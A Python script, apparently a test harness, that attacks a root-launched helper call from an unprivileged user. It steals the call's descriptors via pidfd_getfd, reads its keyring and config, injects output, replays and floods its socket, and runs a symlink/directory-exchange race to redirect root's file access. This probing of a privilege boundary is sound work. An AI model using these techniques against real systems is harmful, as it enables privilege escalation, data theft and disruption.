#!/usr/bin/python3 -IS
"""attack WHAT: what a user may try with the call that root made.

It runs somewhere below that call, as the same user; race runs beside it.

    look        what the call has: a line for each of its descriptors, those
                that pidfd_getfd(2) gives, /dev/tty, the session keyring's
                keys, limits and priorities
    stop        stop it again and again for a second
    print TEXT  into the call's own standard output
    keep        take the call's output and go on writing there
    ask         root for root_setup_cmd, ten times, and print what it answers
    flood       it with requests, hold the channel and read no answer
    race TO     exchange directories at home and links to TO, again and again,
                until there is a file `enough`, then how often
"""

import ctypes
import os
import resource
import signal
import socket
import sys
import time

PIDFD_OPEN, PIDFD_GETFD, KEYCTL, IOPRIO_GET = 434, 438, 250, 252
SEARCH, READ, SESSION = 10, 11, -3
HERE, EXCHANGE = -100, 2

libc = ctypes.CDLL(None, use_errno=True)


def take(pid, number):
    process = libc.syscall(PIDFD_OPEN, pid, 0)
    return libc.syscall(PIDFD_GETFD, process, number, 0)


def keys():
    key = libc.syscall(KEYCTL, SEARCH, SESSION, b"user", b"of-root", 0)
    if key < 0:
        return "none"
    text = ctypes.create_string_buffer(100)
    libc.syscall(KEYCTL, READ, key, text, 100)
    return text.value.decode()


def look(pid):
    for number in range(64):
        taken = take(pid, number)
        if taken >= 0:
            print("has", number, os.readlink("/proc/self/fd/%d" % taken))
    try:
        os.open("/dev/tty", os.O_RDWR)
        print("tty reachable")
    except OSError as error:
        print("tty", error.strerror)
    print("key", keys())
    for name in "core", "stack", "rtprio":
        number = getattr(resource, "RLIMIT_" + name.upper())
        print(name, resource.getrlimit(number)[0])
    print("nice", os.getpriority(os.PRIO_PROCESS, 0))
    print("policy", os.sched_getscheduler(0))
    print("ioclass", libc.syscall(IOPRIO_GET, 1, 0) >> 13)
    with open("/proc/self/oom_score_adj") as score:
        print("oom", score.read().strip())
    with open("/proc/%d/fd/0" % pid) as config:
        print("config", config.read())


def stop(pid):
    end = time.monotonic() + 1
    while time.monotonic() < end:
        os.kill(pid, signal.SIGSTOP)


def keep(pid):
    output = take(pid, 1)
    if os.fork() > 0:
        return
    signal.signal(signal.SIGPIPE, signal.SIG_DFL)
    os.setsid()
    while True:
        os.write(output, b"more\n")
        time.sleep(0.01)


def channel(pid):
    return socket.socket(fileno=take(pid, 3))


def ask(pid):
    root = channel(pid)
    for _ in range(10):
        root.send(b"setup celery-theirs")
        print(root.recv(4096).decode())


def flood(pid):
    root = channel(pid)
    if os.fork() > 0:
        time.sleep(1)
        return
    os.setsid()
    while True:
        try:
            root.send(b"x", socket.MSG_DONTWAIT | socket.MSG_NOSIGNAL)
        except BlockingIOError:
            time.sleep(0.01)
        except BrokenPipeError:
            return


def race(to):
    names = [b".local/state", b".local/state/celery-tmux",
             b".local/state/celery-tmux/" + os.uname().nodename.encode(),
             b".config", b"code"]
    links = [b"link%d" % number for number in range(len(names))]
    for name, link in zip(names, links):
        os.makedirs(name, exist_ok=True)
        os.symlink(to, link)
    rounds = 0
    while not os.path.exists("enough"):
        for name, link in zip(names, links):
            for _ in range(2):
                libc.renameat2(HERE, link, HERE, name, EXCHANGE)
                time.sleep(0.0005)
        rounds += 1
    print(rounds)


def call():
    pid = os.getppid()
    while True:
        with open("/proc/%d/cmdline" % pid, "rb") as words:
            if b"\0--for-root=" in words.read():
                return pid
        with open("/proc/%d/stat" % pid) as stat:
            pid = int(stat.read().rpartition(")")[2].split()[1])


what = sys.argv[1]
if what == "race":
    race(sys.argv[2])
elif what == "print":
    os.write(take(call(), 1), sys.argv[2].encode())
else:
    {"look": look, "stop": stop, "keep": keep, "ask": ask,
     "flood": flood}[what](call())
